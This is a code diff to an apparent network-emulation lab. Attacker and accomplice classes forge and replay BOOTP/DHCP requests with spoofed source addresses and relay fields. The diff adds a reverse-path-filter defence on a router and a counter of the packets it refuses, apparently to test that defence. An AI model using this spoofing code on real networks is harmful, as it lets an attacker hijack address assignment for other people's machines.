@@ -6,9 +6,9 @@ He has an accomplice on the victims' LAN, and the routers there are slow: so his
 
 import select
 import struct
-import threading
 import time
 
+from beside import Beside
 from frames import EVERYONE, address, ipv4
 from honest import HONEST_MAC
 from lab import relays
@@ -16,7 +16,7 @@ from lab.plan import SERVER
 from lab.routers import Router
 from wirelab import Tap
 
-AHEAD = 0.2  # s
+AHEAD = 0.3  # s
 ATTACKER, NOBODY = "10.21.0.66", "10.20.0.66"  # the latter in the victims' subnet
 _MAC = "02:00:00:21:00:66"
 _BOOTP, _HOPS, _GIADDR = 42, 3, 24  # in an Ethernet frame; in BOOTP
@@ -38,10 +38,20 @@ class Elsewhere:
         for router in lab.routers.values():
             router.come_late(AHEAD)
 
-    def bootp_to_server(self, bootp):
-        """A frame to router C, which routes it to the server as it routes all else."""
-        udp = struct.pack("!HHHH", 67, 67, 8 + len(bootp), 0) + bootp
-        return ipv4(17, udp, source=ATTACKER, to=SERVER, src=bytes.fromhex(_MAC.replace(":", "")),
+    def filter_by_reverse_path(self):
+        """Router C takes from its LAN only what comes from addresses that it would send to there (RFC 3704 s2.2)."""
+        self.router.namespace.sysctl("net.ipv4.conf.lan.rp_filter", 1)
+
+    def refused_by_reverse_path(self):
+        """How many packets have been."""
+        names, values = [line.split() for line in self.router.namespace.run("cat", "/proc/net/netstat").splitlines()
+                         if line.startswith("TcpExt:")]
+        return int(values[names.index("IPReversePathFilter")])
+
+    def bootp_to_server(self, bootp, source=ATTACKER, check=0):
+        """A frame to router C, which routes it to the server as it routes all else. `check`: of UDP; 0 is none."""
+        udp = struct.pack("!HHHH", 67, 67, 8 + len(bootp), check) + bootp
+        return ipv4(17, udp, source=source, to=SERVER, src=bytes.fromhex(_MAC.replace(":", "")),
                     dst=bytes.fromhex(f"0200002000{4:02x}"))
 
 
@@ -73,33 +83,34 @@ def through_the_trusted_relay(elsewhere, frame):
     return ipv4(17, udp, source="0.0.0.0", to="255.255.255.255", dst=EVERYONE, src=frame[6:12])
 
 
-class Copier:
+def as_router_a(elsewhere, frame):
+    """What router A itself will send, in its name; but with a checksum that is wrong, or the server's answer would go to A,
+    which would bring it to the client: no harm."""
+    return elsewhere.bootp_to_server(_with_giaddr(frame[_BOOTP:], "10.20.0.2"), source="10.30.0.2", check=0xBAD)
+
+
+class Copier(Beside):
     """Sends a forgery of each honest client's request as soon as the client has sent it; and again every `again` s, until it
     sends another."""
 
     def __init__(self, elsewhere, forge, again=None):
         self._elsewhere, self._forge, self._again = elsewhere, forge, again
         self._latest = {}  # of each client: when to send it again, the forgery
-        self._over = threading.Event()
+        self.sent = 0
 
-    def __enter__(self):
+    def open(self):
         self._ear, self._mouth = Tap(self._elsewhere.accomplice, "eth0"), Tap(self._elsewhere.attacker, "eth0")
-        self._thread = threading.Thread(target=self._copy)
-        self._thread.start()
-        return self
 
-    def __exit__(self, *_):
-        self._over.set()
-        self._thread.join()
-        self._ear.close()
-        self._mouth.close()
-
-    def _copy(self):
-        while not self._over.is_set():
+    def work(self):
+        while not self.over.is_set():
             if select.select([self._ear], [], [], 0.02)[0]:
                 self._hear(self._ear.receive_now())
             if self._again:
                 self._repeat()
+
+    def close(self):
+        self._ear.close()
+        self._mouth.close()
 
     def _hear(self, frame):
         chaddr = frame[_BOOTP + 28:_BOOTP + 34]
@@ -113,4 +124,5 @@ class Copier:
 
     def _send(self, chaddr, forgery):
         self._mouth.send(forgery)
+        self.sent += 1
         self._latest[chaddr] = time.monotonic() + (self._again or 0), forgery
